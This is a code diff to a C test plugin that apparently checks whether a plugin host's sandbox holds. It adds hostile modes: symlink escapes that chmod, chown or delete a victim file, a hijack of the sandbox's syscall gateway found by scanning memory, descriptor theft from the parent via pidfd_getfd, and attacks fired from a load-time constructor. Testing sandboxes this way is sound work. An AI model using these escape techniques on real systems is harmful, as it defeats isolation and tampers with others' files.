@@ -22,8 +22,28 @@
  *   SPIN_LATER           a thread it starts in create spins forever
  *   WRITE_INSIDE         render writes a file in its working directory (its
  *                        data directory when isolated) and says whether it could
- *   HTTP_IN_RENDER       declares http.hosts ["allowed.example"], GETs HTTP_URL
- *                        (default http://127.0.0.1:9/) and shows the status */
+ *   HTTP_IN_RENDER       declares http.hosts [HTTP_HOSTS] (default "allowed.example"),
+ *                        GETs HTTP_URL (default http://127.0.0.1:9/) and shows the status
+ * Attacks on the sandbox, in render (the view says what happened if the
+ * sandbox let the plugin carry on):
+ *   PATH_ATTACK="call"   makes the symbolic link "outside" in its working
+ *                        directory, pointing at VICTIM_DIR, then makes one
+ *                        path call on outside/victim: chmod, fchmodat, chown,
+ *                        lchown, fchownat, utimes, utimensat, truncate, rename,
+ *                        link, unlink, setxattr, removexattr, open, fchmod
+ *                        (on a descriptor opened for reading), fchmodat2,
+ *                        lsetxattr, utime, renameat2; or creates outside/escape
+ *                        with mkdir, symlink or mknod
+ *   GATEWAY_ATTACK       finds the sandbox's gateway (its machine code, which
+ *                        anyone can read in the host's source) in mapped
+ *                        memory, asks it to replace the SIGSYS handler, then
+ *                        to chmod VICTIM_DIR/victim
+ *   UNIX_CONNECT         connects to the Unix socket at UNIX_PATH
+ *   FORK_IN_RENDER       fork()s; the child exits at once
+ *   SPAWN_IN_RENDER      posix_spawn()s /bin/true (glibc blocks every signal first)
+ *   STEAL_DESCRIPTOR     takes its parent's (the host's) standard error with pidfd_getfd
+ *   ATTACK_IN_CONSTRUCTOR  makes the attack above from a constructor instead, as
+ *                        soon as the file is loaded (info, validate, create) */
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <netinet/in.h>
@@ -32,7 +52,16 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <signal.h>
+#include <spawn.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/time.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <sys/xattr.h>
+#include <utime.h>
 #include <unistd.h>
 #include "widget_host/widget_host.h"
 
@@ -56,7 +85,10 @@
 #define HTTP_URL "http://127.0.0.1:9/"
 #endif
 #define HTTP_SERVICE ", \"widget-host.http/1\""
-#define HTTP_FIELD ", \"http\": {\"hosts\": [\"allowed.example\"]}"
+#ifndef HTTP_HOSTS
+#define HTTP_HOSTS "\"allowed.example\""
+#endif
+#define HTTP_FIELD ", \"http\": {\"hosts\": [" HTTP_HOSTS "]}"
 #else
 #define HTTP_SERVICE ""
 #define HTTP_FIELD ""
@@ -117,9 +149,159 @@ static int32_t emit(const wh_output *out, const char *text) {
     return out->write(out, text, strlen(text)) == 0 ? WH_OK : WH_FAILED;
 }
 
+
+static int32_t emit(const wh_output *out, const char *text);
+
+/* The view that says what the sandbox let through: "<what>: <result>". */
+__attribute__((unused)) static int32_t report(const wh_output *out, const char *what, long result) {
+    if (!out) return WH_OK;
+    char view[256];
+    snprintf(view, sizeof view, "{\"view\":1,\"root\":{\"kind\":\"text\",\"text\":\"%s returned %ld\"}}", what, result);
+    return emit(out, view);
+}
+
+#ifdef PATH_ATTACK
+static long path_attack(const char *call) {
+    unlink("outside");
+    if (symlink(VICTIM_DIR, "outside") != 0) return -1000;
+    const char *target = "outside/victim";
+    struct timeval times[2] = {{1, 0}, {1, 0}};
+    if (!strcmp(call, "chmod")) return chmod(target, 0777);
+    if (!strcmp(call, "fchmodat")) return fchmodat(AT_FDCWD, target, 0777, 0);
+    if (!strcmp(call, "chown")) return chown(target, 12345, 12345);
+    if (!strcmp(call, "lchown")) return lchown(target, 12345, 12345);
+    if (!strcmp(call, "fchownat")) return fchownat(AT_FDCWD, target, 12345, 12345, 0);
+    if (!strcmp(call, "utimes")) return utimes(target, times);
+    if (!strcmp(call, "utimensat")) return utimensat(AT_FDCWD, target, NULL, 0);
+    if (!strcmp(call, "truncate")) return truncate(target, 0);
+    if (!strcmp(call, "rename")) return rename(target, "stolen");
+    if (!strcmp(call, "link")) return linkat(AT_FDCWD, target, AT_FDCWD, "linked", AT_SYMLINK_FOLLOW);
+    if (!strcmp(call, "unlink")) return unlink(target);
+    if (!strcmp(call, "setxattr")) return setxattr(target, "user.hostile", "1", 1, 0);
+    if (!strcmp(call, "removexattr")) return removexattr(target, "user.victim");
+    if (!strcmp(call, "open")) return open(target, O_WRONLY | O_APPEND);
+    if (!strcmp(call, "fchmodat2")) return syscall(452, AT_FDCWD, target, 0777, AT_SYMLINK_NOFOLLOW);
+    if (!strcmp(call, "lsetxattr")) return lsetxattr(target, "user.hostile", "1", 1, 0);
+    if (!strcmp(call, "utime")) return utime(target, NULL);
+    if (!strcmp(call, "renameat2")) return syscall(SYS_renameat2, AT_FDCWD, target, AT_FDCWD, "stolen", 0);
+    /* Creations beside the victim. */
+    if (!strcmp(call, "mkdir")) return mkdir("outside/escape", 0755);
+    if (!strcmp(call, "symlink")) return symlink("/etc/passwd", "outside/escape");
+    if (!strcmp(call, "mknod")) return mknod("outside/escape", S_IFIFO | 0644, 0);
+    if (!strcmp(call, "fchmod")) {
+        int fd = open(target, O_RDONLY);
+        return fd < 0 ? -2000 : fchmod(fd, 0777);
+    }
+    return -3000;
+}
+#endif
+
+#ifdef GATEWAY_ATTACK
+typedef long (*gateway_function)(long, long, long, long, long, long, long);
+
+/* The gateway's machine code, as the host's source spells it. */
+static const unsigned char gateway_code[] = {
+    0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
+    0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05, 0xc3,
+};
+
+static gateway_function find_gateway(void) {
+    FILE *maps = fopen("/proc/self/maps", "r");
+    if (!maps) return NULL;
+    char line[512];
+    gateway_function found = NULL;
+    while (!found && fgets(line, sizeof line, maps)) {
+        unsigned long start, end;
+        char permissions[5];
+        if (sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3 || permissions[0] != 'r' || permissions[2] != 'x') continue;
+        for (unsigned long at = start; at + sizeof gateway_code <= end; at++) {
+            if (memcmp((const void *)at, gateway_code, sizeof gateway_code) == 0 && at != (unsigned long)gateway_code) {
+                found = (gateway_function)at;
+                break;
+            }
+        }
+    }
+    fclose(maps);
+    return found;
+}
+
+static void swallow(int signal_number) { (void)signal_number; }
+#endif
+
+#if defined(PATH_ATTACK) || defined(GATEWAY_ATTACK) || defined(UNIX_CONNECT) || defined(FORK_IN_RENDER) \
+    || defined(SPAWN_IN_RENDER) || defined(CONNECT_IN_RENDER) || defined(WRITE_OUTSIDE_IN_RENDER) || defined(STEAL_DESCRIPTOR)
+#define ATTACK 1
+/* The attack, from render, or from a constructor with ATTACK_IN_CONSTRUCTOR
+ * (out is NULL then): plugin code that runs as soon as the file is loaded,
+ * as in `info` and `validate`. */
+static int32_t attack(const wh_output *out) {
+#ifdef CONNECT_IN_RENDER
+    int fd = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in address;
+    memset(&address, 0, sizeof address);
+    address.sin_family = AF_INET;
+    address.sin_port = htons(9);
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    return report(out, "connect", connect(fd, (struct sockaddr *)&address, sizeof address));
+#endif
+#ifdef WRITE_OUTSIDE_IN_RENDER
+    int escape = open(ESCAPE_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (escape >= 0) {
+        ssize_t ignored = write(escape, "escaped\n", 8);
+        (void)ignored;
+        close(escape);
+    }
+    return report(out, "open", escape);
+#endif
+#ifdef PATH_ATTACK
+    return report(out, PATH_ATTACK, path_attack(PATH_ATTACK));
+#endif
+#ifdef GATEWAY_ATTACK
+    gateway_function gateway = find_gateway();
+    if (!gateway) return out ? emit(out, "{\"view\":1,\"root\":{\"kind\":\"text\",\"text\":\"no gateway found\"}}") : WH_OK;
+    struct { void (*handler)(int); unsigned long flags; void *restorer; unsigned long mask; } action = {swallow, 0, NULL, 0};
+    long replaced = gateway(SYS_rt_sigaction, SIGSYS, (long)&action, 0, 8, 0, 0);
+    long changed = gateway(SYS_chmod, (long)VICTIM_DIR "/victim", 0777, 0, 0, 0, 0);
+    char what[64];
+    snprintf(what, sizeof what, "rt_sigaction %ld, chmod", replaced);
+    return report(out, what, changed);
+#endif
+#ifdef UNIX_CONNECT
+    int unix_socket = socket(AF_UNIX, SOCK_STREAM, 0);
+    struct sockaddr_un unix_address;
+    memset(&unix_address, 0, sizeof unix_address);
+    unix_address.sun_family = AF_UNIX;
+    strncpy(unix_address.sun_path, UNIX_PATH, sizeof unix_address.sun_path - 1);
+    return report(out, "connect", connect(unix_socket, (struct sockaddr *)&unix_address, sizeof unix_address));
+#endif
+#ifdef FORK_IN_RENDER
+    pid_t child = fork();
+    if (child == 0) _exit(0);
+    return report(out, "fork", child);
+#endif
+#ifdef STEAL_DESCRIPTOR
+    long pidfd = syscall(SYS_pidfd_open, getppid(), 0);
+    return report(out, "pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 2, 0));
+#endif
+#ifdef SPAWN_IN_RENDER
+    pid_t spawned = 0;
+    char *arguments[] = {"/bin/true", NULL};
+    return report(out, "posix_spawn", posix_spawn(&spawned, "/bin/true", NULL, NULL, arguments, NULL));
+#endif
+    return WH_OK;
+}
+#endif
+
+#ifdef ATTACK_IN_CONSTRUCTOR
+__attribute__((constructor)) static void attack_on_load(void) { attack(NULL); }
+#endif
+
 static int32_t render(wh_plugin *plugin, const char *screen, const char *params, const wh_output *out) {
     (void)params;
     if (strcmp(screen, "main") != 0) return WH_UNKNOWN_SCREEN;
+#if defined(ATTACK) && !defined(ATTACK_IN_CONSTRUCTOR)
+    return attack(out);
+#endif
 #ifdef CRASH_IN_RENDER
     *(volatile int *)0 = 1;
 #endif
@@ -137,23 +319,6 @@ static int32_t render(wh_plugin *plugin, const char *screen, const char *params,
     char *block = malloc(size);
     memset(block, 1, size);
     (void)block[size / 2];
-#endif
-#ifdef CONNECT_IN_RENDER
-    int fd = socket(AF_INET, SOCK_STREAM, 0);
-    struct sockaddr_in address;
-    memset(&address, 0, sizeof address);
-    address.sin_family = AF_INET;
-    address.sin_port = htons(9);
-    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    connect(fd, (struct sockaddr *)&address, sizeof address);
-#endif
-#ifdef WRITE_OUTSIDE_IN_RENDER
-    int escape = open(ESCAPE_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0644);
-    if (escape >= 0) {
-        ssize_t ignored = write(escape, "escaped\n", 8);
-        (void)ignored;
-        close(escape);
-    }
 #endif
 #ifdef FLOOD_IN_RENDER
     for (int i = 0; i < 1000000 && plugin->bus; i++) plugin->bus->publish(plugin->host, "hostile.flood", "{}");
